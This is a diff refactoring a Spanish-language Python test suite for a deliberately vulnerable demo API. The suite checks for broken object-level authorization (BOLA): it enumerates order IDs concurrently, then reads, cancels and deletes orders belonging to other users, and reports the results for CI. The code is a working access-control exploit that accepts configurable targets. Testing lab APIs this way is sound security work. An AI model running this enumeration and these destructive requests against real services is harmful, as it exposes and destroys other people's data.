@@ -1,131 +1,194 @@
 """
 Test suite para verificar la vulnerabilidad BOLA en la API
 Actualizado para proyecto actual
+
+Los tests declaran qué datos necesitan y cuáles dejan (ver ``TESTS``) y
+``bolakit.testrunner`` corre en paralelo los que no dependen entre sí. Con
+``--targets`` e ``--identities`` la suite se repite por cada target e
+identidad; ``--junit``/``--json-report`` dejan los resultados para CI.
 """
 
 
 import argparse
 import os
+import sys
 
 import requests
 from colorama import Fore, Style, init
 
+from bolakit.client import (ClientConfig, LoginError, add_client_arguments, auth_headers, config_from_args, login,
+                            make_session)
+from bolakit.discovery import discover_sync
+from bolakit.metrics import MetricsExporter, RequestMetrics
+from bolakit.search import OwnerIndex, find_foreign_sync
+from bolakit.testrunner import (TestCase, TestRunner, add_runner_arguments, build_contexts, print_runs,
+                                runner_matrix, write_reports)
+
 
 init(autoreset=True)
 
+# Variables de entorno propias de la suite; tienen prioridad sobre las ``BOLA_*`` comunes.
+ENV_ALIASES = {
+    'email': ('BOLA_TEST_EMAIL',),
+    'password': ('BOLA_TEST_PASSWORD',),
+    'timeout': ('BOLA_TEST_TIMEOUT',),
+}
+
+# Todas las llamadas HTTP de la suite pasan por esta sesión instrumentada
+# (``main`` la rearma con la configuración de la línea de comandos).
+METRICS = RequestMetrics()
+SESSION = make_session(ClientConfig.from_env(aliases=ENV_ALIASES), METRICS)
 
-def test_health(base_url, timeout):
+
+def test_health(ctx):
     """Test 0: Verificar que la API está funcionando"""
     print(f"\n{Fore.CYAN}{'='*60}")
     print("TEST 0: Health Check")
     print(f"{'='*60}{Style.RESET_ALL}")
 
     try:
-        response = requests.get(f"{base_url}/health", timeout=timeout)
+        response = ctx.session.get(ctx.url('/health'), timeout=ctx.timeout)
         response.raise_for_status()
     except requests.RequestException as exc:
         print(f"{Fore.RED}❌ FAIL: No se puede conectar a la API - {exc}")
         return False
 
     data = response.json()
+    ctx.set('healthy', True)
     print(f"{Fore.GREEN}✅ PASS: API saludable - {data.get('status', 'N/A')}")
     return True
 
 
-def get_token(base_url, email, password, timeout):
-    """Obtener token de autenticación"""
+def test_login(ctx):
+    """Test 1: Autenticación"""
     print(f"\n{Fore.CYAN}{'='*60}")
     print("TEST 1: Autenticación")
     print(f"{'='*60}{Style.RESET_ALL}")
 
-    try:
-        response = requests.post(
-            f"{base_url}/api/auth/login",
-            json={"email": email, "password": password},
-            timeout=timeout
-        )
-        response.raise_for_status()
-    except requests.RequestException as exc:
-        print(f"{Fore.RED}❌ FAIL: Error en autenticación - {exc}")
-        return None
+    identity = ctx.identity
+    if identity.token:
+        # Con un token provisto, el dueño propio sale del listado de órdenes.
+        response = ctx.session.get(ctx.url('/api/orders'), headers=auth_headers(identity.token), timeout=ctx.timeout)
+        if response.status_code != 200:
+            print(f"{Fore.RED}❌ FAIL: Token rechazado - {response.status_code}")
+            return False
+        orders = response.json().get('orders', [])
+        user = {'id': next((order.get('userId') for order in orders), identity.user_id)}
+        token = identity.token
+    else:
+        try:
+            token, user = login(ctx.session, identity.email, identity.password, ctx.url(ctx.options['login_path']))
+        except LoginError as exc:
+            print(f"{Fore.RED}❌ FAIL: Error en autenticación - {exc}")
+            return False
+
+    ctx.set('token', token)
+    ctx.set('user_id', user.get('id'))
+    print(f"{Fore.GREEN}✅ PASS: Autenticación exitosa")
+    return True
 
-    data = response.json()
-    token = data.get('token')
-    if token:
-        print(f"{Fore.GREEN}✅ PASS: Autenticación exitosa")
-        return {
-            'token': token,
-            'user': data.get('user', {})
-        }
-    print(f"{Fore.RED}❌ FAIL: La respuesta no contiene token")
-    return None
-
-
-def test_own_orders(token, base_url, context, timeout):
+
+def test_own_orders(ctx):
     """Test 2: Usuario puede ver sus propias órdenes"""
     print(f"\n{Fore.CYAN}{'='*60}")
     print("TEST 2: Acceso a órdenes propias")
     print(f"{'='*60}{Style.RESET_ALL}")
 
-    headers = {"Authorization": f"Bearer {token}"}
     try:
-        response = requests.get(f"{base_url}/api/orders", headers=headers, timeout=timeout)
+        response = ctx.session.get(ctx.url('/api/orders'), headers=ctx.headers, timeout=ctx.timeout)
         response.raise_for_status()
     except requests.RequestException as exc:
         print(f"{Fore.RED}❌ FAIL: Error de conexión - {exc}")
         return False
 
     orders = response.json().get('orders', [])
-    context['own_order_ids'] = [order.get('id') for order in orders if order.get('id') is not None]
+    ctx.set('own_order_ids', [order.get('id') for order in orders if order.get('id') is not None])
     print(f"{Fore.GREEN}✅ PASS: Se obtuvieron {len(orders)} órdenes propias")
     return True
 
 
-def find_foreign_order(token, base_url, context, exclude_ids=None, max_id=50, timeout=10):
-    """Buscar una orden que no pertenezca al usuario autenticado."""
-    headers = {"Authorization": f"Bearer {token}"}
-    own_user_id = context.get('user_id')
-    own_order_ids = set(context.get('own_order_ids', []))
-    exclude = set(exclude_ids or []) | own_order_ids
-
-    cached_orders = context.setdefault('foreign_order_cache', [])
-    for cached in cached_orders:
-        if cached.get('id') not in exclude:
-            return cached
-
-    for order_id in range(1, max_id + 1):
-        if order_id in exclude:
-            continue
-        try:
-            response = requests.get(f"{base_url}/api/orders/{order_id}", headers=headers, timeout=timeout)
-        except requests.RequestException:
-            break
-
-        if response.status_code != 200:
-            continue
-
-        order = response.json().get('order', {})
-        owner_id = order.get('userId')
-
-        if owner_id is None or owner_id == own_user_id:
-            continue
+def discover_candidate_ids(ctx):
+    """Acotar el espacio de IDs una sola vez (galloping + muestreo de densidad)."""
+    own_order_ids = ctx['own_order_ids']
+
+    def probe_many(ids):
+        statuses = {}
+        for order_id in ids:
+            try:
+                response = ctx.session.get(ctx.url(f'/api/orders/{order_id}'), headers=ctx.headers, timeout=ctx.timeout)
+                statuses[order_id] = response.status_code
+            except requests.RequestException:
+                statuses[order_id] = 0
+        return statuses
+
+    result = discover_sync(probe_many, hint=max(own_order_ids, default=0), known_ids=own_order_ids)
+    ctx.set('candidate_ids', list(result.iter_ids()))
+    print(f"{Fore.BLUE}[*] Descubrimiento: ID más alto {result.highest_id}, "
+          f"{len(ctx['candidate_ids'])} IDs candidatos ({result.probes} probes)")
+    return ctx['candidate_ids']
+
+
+def find_foreign_order(ctx, exclude_ids=()):
+    """Buscar una orden que no pertenezca al usuario autenticado.
+
+    La primera llamada lanza una búsqueda concurrente de ``foreign_hits``
+    órdenes ajenas; las siguientes se resuelven desde el índice por dueño de la
+    corrida y sólo vuelven a la red si éste se agotó.
+    """
+    options = ctx.options
+    own_user_id = ctx.get('user_id')
+    exclude = set(exclude_ids) | set(ctx['own_order_ids'])
+
+    if 'owner_index' not in ctx:
+        ctx.set('owner_index', OwnerIndex())
+    index = ctx['owner_index']
+    cached = index.foreign(own_user_id, exclude)
+    if cached:
+        return cached[0]
+
+    candidate_ids = range(1, options['max_id'] + 1)
+    if options.get('discover'):
+        if 'candidate_ids' not in ctx:
+            discover_candidate_ids(ctx)
+        candidate_ids = ctx['candidate_ids']
+
+    hits = find_foreign_sync(
+        ctx.base_url,
+        ctx['token'],
+        own_user_id,
+        candidate_ids,
+        want=options.get('foreign_hits', 1),
+        index=index,
+        skip=exclude,
+        concurrency=options.get('concurrency', 8),
+        timeout=ctx.timeout,
+        metrics=METRICS,
+        verify=options.get('verify', True),
+        http2=options.get('http2', False),
+    )
+    return hits[0] if hits else None
 
-        cached_orders.append(order)
-        return order
 
-    return None
+def claim_foreign_order(ctx, exclude_ids=()):
+    """Orden ajena para escribir sobre ella, que ninguna otra corrida del target reservó."""
+    tried = set(exclude_ids)
+    while True:
+        order = find_foreign_order(ctx, tried | ctx.claimed_elsewhere())
+        if order is None or ctx.claim(order.get('id')):
+            return order
+        tried.add(order.get('id'))
 
 
-def test_bola_vulnerability(token, base_url, context, timeout, max_id):
+def test_bola_vulnerability(ctx):
     """Test 3: Verificar vulnerabilidad BOLA"""
     print(f"\n{Fore.CYAN}{'='*60}")
     print("TEST 3: Vulnerabilidad BOLA (Órdenes ajenas)")
     print(f"{'='*60}{Style.RESET_ALL}")
 
-    order = find_foreign_order(token, base_url, context, max_id=max_id, timeout=timeout)
+    order = find_foreign_order(ctx)
+    ctx.set('foreign_order', order)
 
     if order:
-        context['bola_order'] = order
         print(f"{Fore.RED}🚨 VULNERABILIDAD CONFIRMADA!")
         print(f"{Fore.YELLOW}La API permite acceder a órdenes de otros usuarios")
         print(f"\nDatos obtenidos:")
@@ -139,15 +202,14 @@ def test_bola_vulnerability(token, base_url, context, timeout, max_id):
     return False
 
 
-def test_unauthorized_update(token, base_url, context, timeout, max_id):
+def test_unauthorized_update(ctx):
     """Test 4: Intentar modificar orden ajena"""
     print(f"\n{Fore.CYAN}{'='*60}")
     print("TEST 4: Modificación no autorizada")
     print(f"{'='*60}{Style.RESET_ALL}")
 
-    headers = {"Authorization": f"Bearer {token}"}
-
-    target_order = context.get('bola_order') or find_foreign_order(token, base_url, context, max_id=max_id, timeout=timeout)
+    target_order = claim_foreign_order(ctx) if ctx['foreign_order'] else None
+    ctx.set('update_target', target_order)
 
     if not target_order:
         print(f"{Fore.GREEN}✅ Modificación bloqueada: No se hallaron órdenes ajenas accesibles")
@@ -156,18 +218,17 @@ def test_unauthorized_update(token, base_url, context, timeout, max_id):
     order_id = target_order.get('id')
 
     try:
-        response = requests.put(
-            f"{base_url}/api/orders/{order_id}",
-            headers=headers,
+        response = ctx.session.put(
+            ctx.url(f'/api/orders/{order_id}'),
+            headers=ctx.headers,
             json={"status": "cancelled"},
-            timeout=timeout
+            timeout=ctx.timeout
         )
     except requests.RequestException as exc:
         print(f"{Fore.RED}❌ FAIL: Error de conexión - {exc}")
         return False
 
     if response.status_code == 200:
-        context['update_order'] = target_order
         print(f"{Fore.RED}🚨 VULNERABILIDAD: Se puede modificar órdenes ajenas (ID {order_id})")
         return True
 
@@ -175,29 +236,17 @@ def test_unauthorized_update(token, base_url, context, timeout, max_id):
     return False
 
 
-def test_unauthorized_delete(token, base_url, context, timeout, max_id):
+def test_unauthorized_delete(ctx):
     """Test 5: Intentar eliminar orden ajena"""
     print(f"\n{Fore.CYAN}{'='*60}")
     print("TEST 5: Eliminación no autorizada")
     print(f"{'='*60}{Style.RESET_ALL}")
 
-    headers = {"Authorization": f"Bearer {token}"}
-
-    exclude_ids = []
-    if 'update_order' in context and context['update_order'].get('id') is not None:
-        exclude_ids.append(context['update_order']['id'])
-
-    target_order = find_foreign_order(
-        token,
-        base_url,
-        context,
-        exclude_ids=exclude_ids,
-        max_id=max_id,
-        timeout=timeout
-    )
-
-    if not target_order:
-        target_order = context.get('bola_order')
+    # Otra orden que la modificada; si no hay, la misma (el update ya terminó).
+    updated = ctx['update_target']
+    target_order = None
+    if ctx['foreign_order']:
+        target_order = claim_foreign_order(ctx, [updated.get('id')] if updated else []) or updated
 
     if not target_order:
         print(f"{Fore.GREEN}✅ Eliminación bloqueada: No se hallaron órdenes ajenas accesibles")
@@ -206,7 +255,7 @@ def test_unauthorized_delete(token, base_url, context, timeout, max_id):
     order_id = target_order.get('id')
 
     try:
-        response = requests.delete(f"{base_url}/api/orders/{order_id}", headers=headers, timeout=timeout)
+        response = ctx.session.delete(ctx.url(f'/api/orders/{order_id}'), headers=ctx.headers, timeout=ctx.timeout)
     except requests.RequestException as exc:
         print(f"{Fore.RED}❌ FAIL: Error de conexión - {exc}")
         return False
@@ -219,86 +268,91 @@ def test_unauthorized_delete(token, base_url, context, timeout, max_id):
     return False
 
 
+TESTS = [
+    TestCase('health', test_health, provides=('healthy',)),
+    TestCase('login', test_login, requires=('healthy',), provides=('token', 'user_id')),
+    TestCase('own_orders', test_own_orders, requires=('token',), provides=('own_order_ids',)),
+    TestCase('bola_read', test_bola_vulnerability, requires=('token', 'user_id', 'own_order_ids'),
+             provides=('foreign_order',), vulnerable_when=True),
+    TestCase('update', test_unauthorized_update, requires=('foreign_order',), provides=('update_target',),
+             vulnerable_when=True),
+    TestCase('delete', test_unauthorized_delete, requires=('foreign_order', 'update_target'), vulnerable_when=True),
+]
+
+
 def main():
     env = os.environ
     parser = argparse.ArgumentParser(description='Test suite para API vulnerable')
     parser.add_argument('--target', type=str, default=env.get('BOLA_TARGET_HOST', 'localhost'), help='Host/IP del objetivo (default: localhost)')
     parser.add_argument('--port', type=int, default=int(env.get('BOLA_TARGET_PORT', 3000)), help='Puerto HTTP del objetivo (default: 3000)')
     parser.add_argument('--scheme', choices=['http', 'https'], default=env.get('BOLA_TARGET_SCHEME', 'http'), help='Esquema HTTP/HTTPS (default: http)')
-    parser.add_argument('--base-url', type=str, default=env.get('BOLA_BASE_URL'), help='URL base completa (sobrescribe target/port/scheme)')
-    parser.add_argument('--email', type=str, default=env.get('BOLA_TEST_EMAIL', 'alice@example.com'), help='Email para autenticación')
-    parser.add_argument('--password', type=str, default=env.get('BOLA_TEST_PASSWORD', 'password123'), help='Password para autenticación')
-    parser.add_argument('--timeout', type=int, default=int(env.get('BOLA_TEST_TIMEOUT', 10)), help='Timeout en segundos para requests')
+    add_client_arguments(parser, base_url=None, aliases=ENV_ALIASES)
+    add_runner_arguments(parser, env)
     parser.add_argument('--max-id', type=int, default=int(env.get('BOLA_TEST_MAX_ID', 50)), help='ID máximo a evaluar al buscar órdenes ajenas')
+    parser.add_argument('--discover', action='store_true', help='Descubrir el rango de IDs vivos en vez de recorrer 1..max-id')
+    parser.add_argument('--concurrency', type=int, default=int(env.get('BOLA_TEST_CONCURRENCY', 8)), help='Probes simultáneos al buscar órdenes ajenas')
+    parser.add_argument('--foreign-hits', type=int, default=int(env.get('BOLA_TEST_FOREIGN_HITS', 2)), help='Órdenes ajenas a reunir en la búsqueda inicial')
+    parser.add_argument('--metrics-file', default=env.get('BOLA_METRICS_FILE'), help='Archivo OpenMetrics con las latencias de la suite')
+    parser.add_argument('--metrics-port', type=int, default=int(env['BOLA_METRICS_PORT']) if env.get('BOLA_METRICS_PORT') else None, help='Publicar /metrics en este puerto mientras corre la suite')
     args = parser.parse_args()
 
+    global SESSION
     base_url = args.base_url.rstrip('/') if args.base_url else f"{args.scheme}://{args.target}:{args.port}"
+    config = config_from_args(args, base_url=base_url)
+    SESSION = make_session(config, METRICS)
+    targets, identities = runner_matrix(args, base_url)
+    options = {
+        'login_path': config.login_path,
+        'max_id': args.max_id,
+        'discover': args.discover,
+        'concurrency': args.concurrency,
+        'foreign_hits': args.foreign_hits,
+        'verify': not args.insecure,
+        'http2': args.http2,
+    }
+    contexts = build_contexts(targets, identities, SESSION, args.timeout, options)
+    with MetricsExporter(METRICS, path=args.metrics_file, port=args.metrics_port):
+        report = run_suite(args, contexts)
+
+    breakdown = METRICS.breakdown()
+    if breakdown:
+        print(f"{Fore.CYAN}Latencias por fase:{Style.RESET_ALL}")
+        for line in breakdown:
+            print(f"    {line}")
+    return report.exit_code
 
+
+def run_suite(args, contexts):
     print(f"\n{Fore.YELLOW}{'='*60}")
     print("SUITE DE TESTS - API VULNERABLE")
-    print(f"Target: {base_url}")
+    for target in dict.fromkeys(ctx.base_url for ctx in contexts):
+        print(f"Target: {target}")
     print(f"{'='*60}{Style.RESET_ALL}\n")
 
-    results = {
-        'total': 0,
-        'passed': 0,
-        'failed': 0,
-        'vulnerabilities': 0
-    }
-   
-    # Verificar conectividad primero
-    if not test_health(base_url, args.timeout):
-        print(f"{Fore.RED}No se puede continuar - API no disponible")
-        return
-   
-    token_data = get_token(base_url, args.email, args.password, args.timeout)
-    if not token_data:
-        print(f"{Fore.RED}No se puede continuar sin token de autenticación")
-        return
-
-    token = token_data['token']
-    context = {
-        'user_id': token_data.get('user', {}).get('id')
-    }
-   
-    # Lista de tests
-    tests = [
-        lambda t, url, ctx: test_own_orders(t, url, ctx, args.timeout),
-        lambda t, url, ctx: test_bola_vulnerability(t, url, ctx, args.timeout, args.max_id),
-        lambda t, url, ctx: test_unauthorized_update(t, url, ctx, args.timeout, args.max_id),
-        lambda t, url, ctx: test_unauthorized_delete(t, url, ctx, args.timeout, args.max_id)
-    ]
-   
-    for test in tests:
-        results['total'] += 1
-        try:
-            if test(token, base_url, context):
-                results['passed'] += 1
-                # Si es una prueba de vulnerabilidad y pasa, contar como vulnerabilidad
-                if test.__name__ in ['test_bola_vulnerability', 'test_unauthorized_update', 'test_unauthorized_delete']:
-                    results['vulnerabilities'] += 1
-            else:
-                results['failed'] += 1
-        except Exception as e:
-            print(f"{Fore.RED}❌ TEST ERROR: {str(e)}")
-            results['failed'] += 1
-   
+    report = TestRunner('test_vulnerable', TESTS, workers=args.workers).run(contexts)
+    totals = report.totals()
+
     # Resumen
     print(f"\n{Fore.CYAN}{'='*60}")
     print("RESUMEN DE TESTS - API VULNERABLE")
     print(f"{'='*60}{Style.RESET_ALL}")
-    print(f"Total de tests: {results['total']}")
-    print(f"{Fore.GREEN}Tests pasados: {results['passed']}")
-    print(f"{Fore.RED}Tests fallados: {results['failed']}")
-    print(f"{Fore.RED}🚨 Vulnerabilidades encontradas: {results['vulnerabilities']}")
-   
-    if results['vulnerabilities'] > 0:
+    print(f"Total de tests: {totals['total']}")
+    print(f"{Fore.GREEN}Tests pasados: {totals['passed']}")
+    print(f"{Fore.RED}Tests fallados: {totals['failed'] + totals['error']}")
+    if totals['skipped']:
+        print(f"{Fore.BLUE}Tests omitidos: {totals['skipped']}")
+    print(f"{Fore.RED}🚨 Vulnerabilidades encontradas: {totals['vulnerabilities']}")
+    print_runs(report)
+
+    if totals['vulnerabilities'] > 0:
         print(f"\n{Fore.YELLOW}⚠️  Esta API es VULNERABLE y no debe usarse en producción")
     else:
         print(f"\n{Fore.GREEN}✅ Esta API está protegida contra BOLA")
-   
+
     print(f"\n{Fore.CYAN}Recomendación: Prueba la API segura en puerto 3001{Style.RESET_ALL}\n")
+    write_reports(report, args.junit, args.json_report)
+    return report
 
 
 if __name__ == "__main__":
-    main()
+    sys.exit(main())